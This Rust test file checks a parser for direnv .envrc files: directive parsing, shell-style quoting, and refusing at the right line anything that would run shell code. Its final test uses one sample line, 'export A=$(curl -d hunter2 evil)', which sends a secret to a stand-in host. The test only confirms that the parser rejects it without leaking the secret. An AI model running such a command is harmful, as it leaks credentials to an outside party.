use super::*;

fn text(s: &str) -> Part {
    Part::Text(s.into())
}

fn one(line: &str) -> Directive {
    let mut lines = parse(line.as_bytes()).unwrap();
    assert_eq!(lines.len(), 1, "{line}");
    lines.remove(0).directive
}

fn refused(file: &str) -> Unsupported {
    parse(file.as_bytes()).unwrap_err()
}

#[test]
fn every_directive_and_its_line() {
    let file = "# top\n\nstrict_env\ndotenv\ndotenv_if_exists .env.dev\nPATH_add bin tools\n\
                path_add PYTHONPATH src\nexport A=1 # why\nlayout python3\nlayout node\n\
                source_env_if_exists .envrc.local\nwatch_file a b\nenv_vars_required X Y\n\
                export A\n";
    let lines = parse(file.as_bytes()).unwrap();
    let got: Vec<(usize, Directive)> = lines.into_iter().map(|l| (l.line, l.directive)).collect();
    assert_eq!(
        got,
        [
            (3, Directive::StrictEnv),
            (
                4,
                Directive::Dotenv {
                    file: None,
                    if_exists: false
                }
            ),
            (
                5,
                Directive::Dotenv {
                    file: Some(vec![text(".env.dev")]),
                    if_exists: true
                }
            ),
            (
                6,
                Directive::PathAdd {
                    var: "PATH".into(),
                    dirs: vec![vec![text("bin")], vec![text("tools")]]
                }
            ),
            (
                7,
                Directive::PathAdd {
                    var: "PYTHONPATH".into(),
                    dirs: vec![vec![text("src")]]
                }
            ),
            (
                8,
                Directive::Export {
                    name: "A".into(),
                    value: vec![text("1")]
                }
            ),
            (9, Directive::LayoutPython),
            (10, Directive::LayoutNode),
            (
                11,
                Directive::SourceEnv {
                    file: vec![text(".envrc.local")],
                    if_exists: true
                }
            ),
            (
                12,
                Directive::WatchFile(vec![vec![text("a")], vec![text("b")]])
            ),
            (13, Directive::Required(vec!["X".into(), "Y".into()])),
            (14, Directive::Exported("A".into())),
        ]
    );
}

#[test]
fn quoting_as_a_shell_reads_it() {
    let value = |line: &str| match one(line) {
        Directive::Export { value, .. } => value,
        other => panic!("{other:?}"),
    };
    assert_eq!(value("export A='a $B \\ \"'"), [text("a $B \\ \"")]);
    assert_eq!(
        value("export A=\"x\\\"\\$\\\\\\n${B}y$C_D\""),
        [
            text("x\"$\\\\n"),
            Part::Var("B".into()),
            text("y"),
            Part::Var("C_D".into())
        ]
    );
    assert_eq!(value("export A=a\\ b'c'\"d\""), [text("a bcd")]);
    assert_eq!(value("export A="), Vec::<Part>::new());
    assert_eq!(value("export A=''"), [text("")]);
    assert_eq!(value("export A=x#y"), [text("x#y")]);
    assert_eq!(value("export A=\"a#b\" # c"), [text("a#b")]);
    assert_eq!(value("\texport   A=b\r"), [text("b")]);
    assert_eq!(value("export A=x=y"), [text("x=y")]);
}

#[test]
fn anything_that_would_run_or_depend_on_the_shell_is_refused_at_its_line() {
    for (file, line) in [
        ("use nix\n", 1),
        ("export A=1\neval \"$(lorri direnv)\"\n", 2),
        ("export A=$(touch x)\n", 1),
        ("export A=\"$(touch x)\"\n", 1),
        ("export A=`touch x`\n", 1),
        ("export A=\"`touch x`\"\n", 1),
        ("export A=$((1+2))\n", 1),
        ("export A=${B:-c}\n", 1),
        ("export A=$1\n", 1),
        ("export A=$@\n", 1),
        ("export A=*\n", 1),
        ("PATH_add bin/*\n", 1),
        ("export A=~/x\n", 1),
        ("export A=1; touch x\n", 1),
        ("export A=1 && touch x\n", 1),
        ("export A=1 | cat\n", 1),
        ("export A=1 > x\n", 1),
        ("export A=1 B=2\n", 1),
        ("export \"A=1\"\n", 1),
        ("export 1A=1\n", 1),
        ("A=1\n", 1),
        ("f() { touch x; }\n", 1),
        ("source_up\n", 1),
        ("source_env ../x\nlayout ruby\n", 2),
        ("layout python python3.11\n", 1),
        ("dotenv a b\n", 1),
        ("strict_env x\n", 1),
        ("export A='x\n'\n", 1),
        ("export A=\"x\\\ny\"\n", 1),
        ("export A=b \\\n", 1),
        ("\"dotenv\"x\n", 1),
        ("$CMD\n", 1),
        ("env_vars_required $X\n", 1),
    ] {
        let got = refused(file);
        assert_eq!(got.line, line, "{file:?}: {got:?}");
    }
}

#[test]
fn a_bom_is_accepted_and_names_are_shell_names() {
    assert_eq!(one("\u{feff}strict_env"), Directive::StrictEnv);
    assert_eq!(parse(b"strict_env\nexport A=\xff\n").unwrap_err().line, 2);
    assert!(is_name("_a1") && is_name("A") && !is_name("1a") && !is_name("") && !is_name("a-b"));
}

#[test]
fn the_reason_never_holds_the_line() {
    let secret = "export A=$(curl -d hunter2 evil)\n";
    let got = refused(secret);
    assert!(!got.why.contains("hunter2"), "{got:?}");
}
